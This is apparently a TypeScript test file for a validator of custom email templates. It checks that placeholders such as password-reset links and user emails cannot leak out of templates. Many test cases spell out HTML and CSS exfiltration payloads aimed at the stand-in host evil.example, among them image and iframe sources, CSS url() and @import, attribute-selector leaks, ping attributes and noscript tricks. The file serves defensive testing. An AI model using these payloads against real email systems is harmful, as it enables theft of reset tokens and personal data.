import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import fc from 'fast-check';
import { parse } from 'parse5';
import { type PlaceholderValues, placeholders } from '../message-template.ts';
import { composeMessage } from './compose.ts';
import { attributeOf, childrenOf, isElement, isHtml, type Node } from './html.ts';
import { readOwnText } from './own-text.ts';

const sheet = 'a style sheet that imports another, or asks what attributes hold';
const link = '<a href="{{link}}">Go on</a>';

describe('a text of an organization', () => {
  for (const text of [
    '<p>Hello {{displayName}} of {{organization}}, it is {{time}}. {{unknown}}</p>',
    '<title>{{organization}}: {{ USERNAME }}</title><h1 title="{{email}}">{{email}}</h1>',
    `<p>${link} until {{expires}}</p>`,
    "<a class='button' style='color:red' target=_blank href=' {{ link }} '>Go on</a>",
    '<a href="{{url}}">Portal</a> <a href="{{url}}/help?a=b">Help</a> {{url}}',
    '<img alt="{{organization}}" src="https://cdn.example/logo.png"><body background="https://cdn.example/x.png">',
    `<style>@media (max-width:400px){ td[class*="w"] a[x-apple] { background: url(https://cdn.example/a.png) } }</style><div style="background:url(https://cdn.example/b.png)">${link}`,
    `<!--[if mso]><table><tr><td style="width:600px"><![endif]-->${link}<!--[if mso]></td></tr></table><![endif]-->`,
    `<!--[if !mso]><!--><p>a</p><!--<![endif]-->${link}<!-- 1 < 2, isn't it -->`,
    `<!--[if mso]><noscript><xml><o:Office></o:Office></xml></noscript><![endif]-->${link}`,
    '<style>@import url(https://fonts.example/a.css);</style><link rel="stylesheet" href="https://fonts.example/b.css">{{email}}',
  ]) {
    it(`may be ${text}`, () => assert.ok(!('refused' in readOwnText(text)), JSON.stringify(readOwnText(text))));
  }

  const misplaced = [
    ...['{{link}}', '<p>Copy {{link}}</p>', '<title>{{link}}</title>', '<p title="{{link}}">', '<a title="{{link}}">'],
    '<a href="https://evil.example/?{{link}}">x</a>',
    '<a href="{{link}}&to=evil">x</a>',
    '<a href="//evil.example/{{link}}">x</a>',
    '<a href={{link}}>x</a>',
    '<a href="x" href="{{link}}">x</a>',
    '<a {{link}}>x</a>',
    '<{{link}}>',
    '<area href="{{link}}">',
    '<svg><a href="{{link}}">x</a></svg>',
    '<svg><a xlink:href="{{link}}">x</a></svg>',
    '<base href="{{link}}">',
    '<link rel="preload" href="{{link}}">',
    '<form action="{{link}}">',
    '<input value="{{link}}">',
    '<template><a href="{{link}}">x</a></template>',
    '<!-- {{link}} -->',
    '<!--[if mso]><v:roundrect href="{{link}}"></v:roundrect><![endif]-->',
    '<!doctype html "{{email}}">',
    '<a data-saferedirecturl="{{link}}" href="{{link}}">x</a>',
    '<a href="{{link}}">x</a><img src=\'https://evil.example/?<p>{{email}}',
  ];
  const fetched = [
    ...[
      '<img src="https://evil.example/?{{email}}">',
      '<IMG SRC=https://evil.example/{{userName}}>',
      '<img srcset="{{url}} 2x">',
    ],
    '<img src="{{url}}/logo.png">',
    '<img src="https://evil.example/\n{{\n email\t}}">',
    '<link rel="stylesheet" href="https://evil.example/{{email}}">',
    '<style>a{background:url(https://evil.example/{{email}})}</style>',
    '<style>@import "https://evil.example/{{email}}";</style>',
    '<p style="background:url(https://evil.example/{{email}})">',
    '<p style="font-family:{{organization}}">',
    '<body background="https://evil.example/{{email}}">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/{{email}}">',
    '<form action="https://evil.example/{{email}}">',
    '<button formaction="https://evil.example/{{email}}">',
    '<iframe src="https://evil.example/{{email}}"></iframe>',
    '<iframe srcdoc="{{email}}"></iframe>',
    '<object data="https://evil.example/{{email}}"></object>',
    '<video poster="https://evil.example/{{email}}">',
    '<svg><image href="https://evil.example/{{email}}"/></svg>',
    '<svg><style>{{email}}</style></svg>',
    '<script>fetch("https://evil.example/{{email}}")</script>',
    '<p onclick="{{email}}">',
    '<a href="https://evil.example/{{email}}">x</a>',
    '<a href="{{url}}/{{email}}">x</a>',
    '<a href="{{url}}.evil.example">x</a>',
    '<a href="mailto:{{email}}">x</a>',
    '<!--[if mso]><img src="https://evil.example/{{email}}"><![endif]-->',
    '<![CDATA[ {{email}} ]]>',
    '<img alt={{displayName}}>',
  ];
  for (const text of [...misplaced, ...fetched]) {
    it(`must not be ${text}`, () => {
      const read = readOwnText(text);
      assert.match('refused' in read ? read.refused : '', /^The placeholder \{\{\w+\}\} can /);
    });
  }

  it('must not hide a placeholder in character references', () => {
    for (const text of ['<title>&#123;&#123;link}}</title>', '&lbrace;{email}}', '<a href="&#x7b;{link}}">x</a>']) {
      const read = readOwnText(text);
      assert.match('refused' in read ? read.refused : '', /not with character references/, text);
    }
  });

  for (const [thief, what] of [
    ['<style>a[href*="ab"]{background:url(https://evil.example/ab)}</style>', sheet],
    ['<style>@import "https://evil.example/x.css";</style>', sheet],
    ['<style>@\\69mport "https://evil.example/x.css";</style>', sheet],
    [
      '<style>i{display:none}a[hRef*="ab"]~i{display:block}</style><i style="background:url(//evil.example/ab)">',
      sheet,
    ],
    ['<style>a::after{content:attr(href)}</style>', sheet],
    ['<style>a[/**/data-safe/**/^="https"]{color:red}</style>', sheet],
    ['<style>td[class*="a"] a[title$="b"]{color:red}</style>', sheet],
    ['<link rel=stylesheet href=https://evil.example/x.css>', 'the element link'],
    ['<script src=https://evil.example/x.js></script>', 'the element script'],
    ['<iframe srcdoc="x"></iframe>', 'the element iframe'],
    ['<svg><style>a{background:url(//evil.example)}</style></svg>', 'the element svg'],
    ['<a ping="https://evil.example/" href="{{link}}">x</a>', 'the attribute ping'],
    ['<p onmouseover="x">', 'the attribute onmouseover'],
    ["<!--[if mso]><img src='https://evil.example/?<![endif]-->", 'a comment with a tag that does not end in it'],
    ["<!-- > <img src='https://evil.example/? -->", 'a comment with a tag that does not end in it'],
    ['<!--[if mso]><link rel=stylesheet href=x><![endif]-->', 'the element link in a comment'],
    ['<!--[if mso]><style>@import "x"</style><![endif]-->', sheet],
  ] as const) {
    it(`must not have ${thief} beside the link`, () => {
      assert.deepEqual(readOwnText(`${thief}${link} it's`), { refused: `A text with {{link}} must not have ${what}.` });
    });
  }

  it('must not have what is read in one way with scripts and in another without', () => {
    for (const hidden of [
      `<noscript>${link}</noscript>`,
      '<noscript><p title="</noscript><img src=\'https://evil.example/?{{email}}\'>">',
      `<noscript><style></noscript><link rel=stylesheet href=x>${link}`,
    ]) {
      assert.deepEqual(readOwnText(hidden), { refused: 'The text must not have the element noscript.' }, hidden);
    }
  });

  it('must not have more than any mail, or nest it more deeply', () => {
    for (const text of ['<p>'.repeat(6000), '<div>'.repeat(200), '<!---->'.repeat(1001), '{{x}}'.repeat(1001)]) {
      const read = readOwnText(text);
      assert.match('refused' in read ? read.refused : '', /too many placeholders, elements or comments/, text);
    }
  });

  it('shows the link to nobody but the link, whatever it is made of', () => {
    const pieces = [
      ...[
        '{{link}}',
        '<a href="{{link}}">',
        '</a>',
        "'",
        '"',
        '>',
        '<',
        '<!--',
        '-->',
        '<p title="',
        '<img src="//e/?',
      ],
      ...[
        '<svg>',
        '</svg>',
        '<style>',
        '</style>',
        '<title>',
        '<noscript>',
        '<table>',
        '<td>',
        '<textarea>',
        '<select>',
      ],
      ...[
        '<math>',
        '<mi>',
        '<template>',
        '<![CDATA[',
        ']]>',
        '<plaintext>',
        '{{email}}',
        '/',
        '=',
        ' ',
        '&quot;',
        '<xmp>',
      ],
    ];
    const values = Object.fromEntries(placeholders.map((name) => [name, name])) as Record<string, string>;
    const secret = 'https://id.example/reset?token=s3cret';
    let accepted = 0;
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...pieces), { maxLength: 12 }), (parts) => {
        const own = readOwnText(parts.join(''));
        if ('refused' in own) return;
        const facts = { ...values, link: secret } as PlaceholderValues;
        const message = composeMessage('ForgotPassword', facts, { language: 'en', own, isPreview: false });
        assert.ok(!message.subject.includes('s3cret'));
        for (const scriptingEnabled of [true, false])
          holdsOnlyInLinks(parse(message.html, { scriptingEnabled }), secret);
        if (message.html.includes('s3cret')) accepted += 1;
      }),
      { numRuns: 3000 },
    );
    assert.ok(accepted > 10, String(accepted));
  });
});

function holdsOnlyInLinks(node: Node, secret: string): void {
  if ('value' in node) assert.ok(!node.value.includes('s3cret'), node.value);
  if ('data' in node) assert.ok(!node.data.includes('s3cret'), node.data);
  if (isElement(node)) {
    const isLink = node.tagName === 'a' && isHtml(node);
    for (const { name, value } of node.attrs) {
      assert.ok(!name.includes('s3cret'));
      if (value.includes('s3cret')) assert.ok(isLink && name === 'href' && attributeOf(node, name) === secret, value);
    }
  }
  for (const child of childrenOf(node)) holdsOnlyInLinks(child, secret);
}
